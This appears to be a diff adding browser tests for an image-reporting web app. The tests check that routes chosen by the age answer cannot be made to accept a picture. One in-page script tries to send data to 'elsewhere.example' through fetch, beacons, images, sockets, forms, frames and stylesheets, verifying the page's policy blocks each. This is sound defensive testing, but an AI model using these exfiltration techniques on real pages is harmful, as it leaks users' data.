@@ -1,0 +1,249 @@
+// SPDX-License-Identifier: Apache-2.0
+// The routes without pictures, and attempts to get past them: no file input, no worker, nothing that takes a file or sends
+// anything, whatever is pressed, dropped, pasted or left open.
+import assert from "node:assert/strict";
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { after, before, describe, it } from "node:test";
+import { answer, begin, drop_file, launch, look_inside, paste_file, press, survey, visit } from "./browser.mjs";
+import { faults_of } from "./contract.mjs";
+import { vectors } from "./paths.mjs";
+import { start_static_server } from "./static_server.mjs";
+import { adult, age_question, is_titled, no_worker_runs, to_age, to_pictures } from "./ways.mjs";
+
+const bridge = join(vectors, "pdq/images/bridge-mods/aaa-orig.jpg");
+const small_base64 = readFileSync(join(vectors, "media/landscape.jpg")).toString("base64");
+
+let server;
+let browser;
+let visitor;
+before(async () => {
+  server = await start_static_server();
+  browser = await launch();
+  visitor = await visit(browser, server.url);
+});
+after(async () => {
+  await browser?.close();
+  await server?.stop();
+});
+
+/** A new visit in the one tab; every request that it made is held against the contract. */
+const in_a_visit = (act) => async () => {
+  await begin(visitor);
+  await act();
+  await hold_to_contract();
+};
+async function hold_to_contract() {
+  for (const request of visitor.requests.splice(0)) visitor.faults.push(...(await faults_of(request)));
+  assert.deepEqual(visitor.faults, []);
+}
+
+async function assert_no_way_in() {
+  await no_worker_runs(visitor);
+  assert.equal(await look_inside(visitor, "document.querySelectorAll('input[type=file], textarea, input[type=text], input[type=password], img').length"), 0);
+  const shown = await look_inside(visitor, "document.querySelector('main').innerText");
+  const sent = visitor.requests.length;
+  for (const selector of ["main", "body", "h1"]) {
+    assert.equal(await drop_file(visitor, selector, "picture.jpg", small_base64), true, "the browser must not open the file");
+    await paste_file(visitor, selector, "picture.jpg", small_base64);
+  }
+  assert.equal(await look_inside(visitor, "document.querySelector('main').innerText"), shown);
+  assert.equal(visitor.requests.length, sent);
+  assert.equal(visitor.page.workers().length, 0);
+  assert.equal(await look_inside(visitor, "document.querySelectorAll('input[type=file], img').length"), 0);
+  assert.equal(visitor.page.url(), `${server.url}/`);
+}
+
+const helping = "I am helping someone else";
+const routes = [
+  ["under-18-now", "I am under 18 now", [], "There is help made for you"],
+  ["pictured-under-18", "No, someone was under 18", [], "There is a safe way for this picture"],
+  ["not-sure", "I am not sure", [], "Not being sure is all right"],
+  ["helping-a-child", helping, ["Someone under 18, or the picture is from when they were under 18"], "How to help someone under 18"],
+  ["helping-an-adult", helping, ["An adult, and everyone in the picture was 18 or over"], "How to help an adult"],
+  ["helping-age-unknown", helping, ["I am not sure how old they were"], "How to help someone under 18"],
+];
+
+describe("a route without pictures", () => {
+  for (const [name, age, more, expected] of routes)
+    it(
+      `${name}: has no file input, no worker, and a dropped or pasted file does nothing`,
+      in_a_visit(async () => {
+        await to_age(visitor);
+        await answer(visitor, age);
+        for (const text of more) await answer(visitor, text);
+        await is_titled(visitor, expected);
+        await assert_no_way_in();
+        await survey(visitor, name);
+
+        // Back shows the locked answer, and no sequence of going back and forth opens the question again.
+        for (let i = 0; i < 4; i += 1) {
+          const back = visitor.page.getByRole("button", { name: "Back", exact: true });
+          if (await back.isVisible()) await back.click();
+          assert.equal(await visitor.page.getByRole("radio", { name: adult }).count(), 0);
+          assert.equal(await visitor.page.getByText("I have been here before").count(), 0);
+          await assert_no_way_in();
+        }
+      }),
+    );
+
+  it(
+    "shows who is helped, and the locked answer, to everybody",
+    in_a_visit(async () => {
+      await to_age(visitor);
+      await answer(visitor, helping);
+      await is_titled(visitor, "Who are you helping?");
+      await survey(visitor, "who-is-helped");
+      await press(visitor, "Back");
+      await is_titled(visitor, "Your answer to this question");
+      await survey(visitor, "locked");
+    }),
+  );
+
+  it(
+    "tells who to talk to when the answer was a mistake, and asks again on a new visit only",
+    in_a_visit(async () => {
+      await to_age(visitor);
+      await answer(visitor, "I am not sure");
+      await is_titled(visitor, "Not being sure is all right");
+      await press(visitor, "Back");
+      await is_titled(visitor, "Your answer to this question");
+      await visitor.page.getByText("If you pressed the wrong answer").waitFor();
+      await visitor.page.reload();
+      await is_titled(visitor, "You are not alone with this");
+      await to_age(visitor);
+      assert.equal(await visitor.page.getByRole("radio", { checked: true }).count(), 0);
+    }),
+  );
+});
+
+describe("attempts to get past the answer", () => {
+  it(
+    "pictures that were chosen before are gone, also when the picture is still being read",
+    in_a_visit(async () => {
+      const { page } = visitor;
+      await to_pictures(visitor);
+      await page.locator("#picture-files").setInputFiles(bridge);
+      await page.getByText("Ready", { exact: true }).waitFor();
+      for (let i = 0; i < 4; i += 1) await press(visitor, "Back");
+      await is_titled(visitor, age_question);
+      await answer(visitor, "No, someone was under 18");
+      await is_titled(visitor, "There is a safe way for this picture");
+      await assert_no_way_in();
+    }),
+  );
+
+  it(
+    "a file dialog that was opened before the answer brings nothing in after it",
+    in_a_visit(async () => {
+      const { page } = visitor;
+      await to_pictures(visitor);
+      const [dialog] = await Promise.all([page.waitForEvent("filechooser"), press(visitor, "Choose pictures")]);
+      for (let i = 0; i < 4; i += 1) await press(visitor, "Back");
+      await is_titled(visitor, age_question);
+      await answer(visitor, "I am under 18 now");
+      await is_titled(visitor, "There is help made for you");
+      await dialog.setFiles(bridge);
+      await assert_no_way_in();
+    }),
+  );
+
+  it(
+    "a recovery file dialog that was opened before the answer opens no case after it",
+    in_a_visit(async () => {
+      const { page } = visitor;
+      await press(visitor, "I have been here before");
+      await is_titled(visitor, "Open your case");
+      const [dialog] = await Promise.all([page.waitForEvent("filechooser"), press(visitor, "Choose the file")]);
+      await press(visitor, "Back");
+      await is_titled(visitor, "You are not alone with this");
+      await to_age(visitor);
+      await answer(visitor, "I am not sure");
+      await is_titled(visitor, "Not being sure is all right");
+      await dialog.setFiles({ name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("AGE-SECRET-KEY-1HHT2M9RVJZZJ9G4ATSSMH4PG5G2HML6WMS8DDQFR6V4807TPSEJSPA4M3T") });
+      await assert_no_way_in();
+      assert.deepEqual(visitor.requests.filter((request) => request.url().includes("/v1/case")), []);
+    }),
+  );
+
+  it(
+    "a page that the browser kept and brings back is blank first and then a new visit",
+    in_a_visit(async () => {
+      await to_age(visitor);
+      await answer(visitor, "I am under 18 now");
+      await is_titled(visitor, "There is help made for you");
+      await look_inside(visitor, "dispatchEvent(new PageTransitionEvent('pagehide', { persisted: true })); 0");
+      assert.equal(await look_inside(visitor, "document.getElementById('page').childElementCount"), 0);
+      await look_inside(visitor, "dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true })); 0");
+      await is_titled(visitor, "You are not alone with this");
+      await no_worker_runs(visitor);
+      assert.equal(await look_inside(visitor, "document.querySelectorAll('input[type=file]').length"), 0);
+    }),
+  );
+
+  it(
+    "another tab neither opens the locked one nor learns of it",
+    in_a_visit(async () => {
+      await to_age(visitor);
+      await answer(visitor, "I am not sure");
+      await is_titled(visitor, "Not being sure is all right");
+      const other = { ...visitor, page: await visitor.context.newPage() };
+      await other.page.goto(server.url);
+      await to_pictures(other);
+      assert.equal(await visitor.page.getByRole("heading", { level: 1 }).innerText(), "Not being sure is all right");
+      await assert_no_way_in();
+      await hold_to_contract();
+      await other.page.close();
+      await assert_no_way_in();
+    }),
+  );
+
+  it(
+    "coming back online starts nothing that could take a picture",
+    in_a_visit(async () => {
+      await to_age(visitor);
+      await answer(visitor, "I am under 18 now");
+      await is_titled(visitor, "There is help made for you");
+      await look_inside(visitor, "dispatchEvent(new Event('offline')); dispatchEvent(new Event('online')); 0");
+      await visitor.page.waitForResponse(`${server.url}/v1/service`);
+      await assert_no_way_in();
+    }),
+  );
+});
+
+describe("attempts to make the page send something", () => {
+  /** Runs in the page as an injected script would; each names what it is and tells whether the policy stopped it. */
+  const attempts = `(async () => {
+    const stopped = {};
+    const refuses = async (name, act) => { try { await act(); stopped[name] = false; } catch { stopped[name] = true; } };
+    const violated = (name, act) => new Promise((done) => {
+      document.addEventListener("securitypolicyviolation", () => done((stopped[name] = true)), { once: true });
+      try { act(); } catch { done((stopped[name] = true)); }
+    });
+    const elsewhere = "https://elsewhere.example/collect";
+    await refuses("fetch", () => fetch(elsewhere, { method: "POST", mode: "no-cors", body: "x" }));
+    await violated("beacon", () => navigator.sendBeacon(elsewhere, "x"));
+    await violated("image", () => { new Image().src = elsewhere; });
+    await violated("socket", () => new WebSocket("wss://elsewhere.example"));
+    await violated("events", () => new EventSource(elsewhere));
+    await violated("form", () => { const form = document.createElement("form"); form.action = elsewhere; form.method = "post"; document.body.append(form); form.submit(); });
+    await violated("frame", () => { const frame = document.createElement("iframe"); frame.src = elsewhere; document.body.append(frame); });
+    await violated("style", () => { const link = document.createElement("link"); link.rel = "stylesheet"; link.href = elsewhere; document.head.append(link); });
+    await violated("base", () => { const base = document.createElement("base"); base.href = elsewhere; document.head.append(base); });
+    await refuses("script address", () => { document.createElement("script").src = elsewhere; });
+    await refuses("markup", () => { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); });
+    await refuses("worker", () => new Worker("/assets/any.js"));
+    await refuses("worker of one's own", () => new Worker(URL.createObjectURL(new Blob(["0"], { type: "text/javascript" }))));
+    await refuses("another policy", () => trustedTypes.createPolicy("other", {}));
+    await refuses("the policy again", () => trustedTypes.createPolicy("holdfast", {}));
+    return stopped;
+  })()`;
+
+  it("its policy stops every one, even from inside", async () => {
+    await begin(visitor);
+    const stopped = await look_inside(visitor, attempts);
+    assert.deepEqual(Object.entries(stopped).filter(([, was_stopped]) => !was_stopped), []);
+    assert.equal(Object.keys(stopped).length, 15);
+    assert.deepEqual(visitor.faults.filter((fault) => fault.startsWith("request to somebody else")), []);
+  });
+});
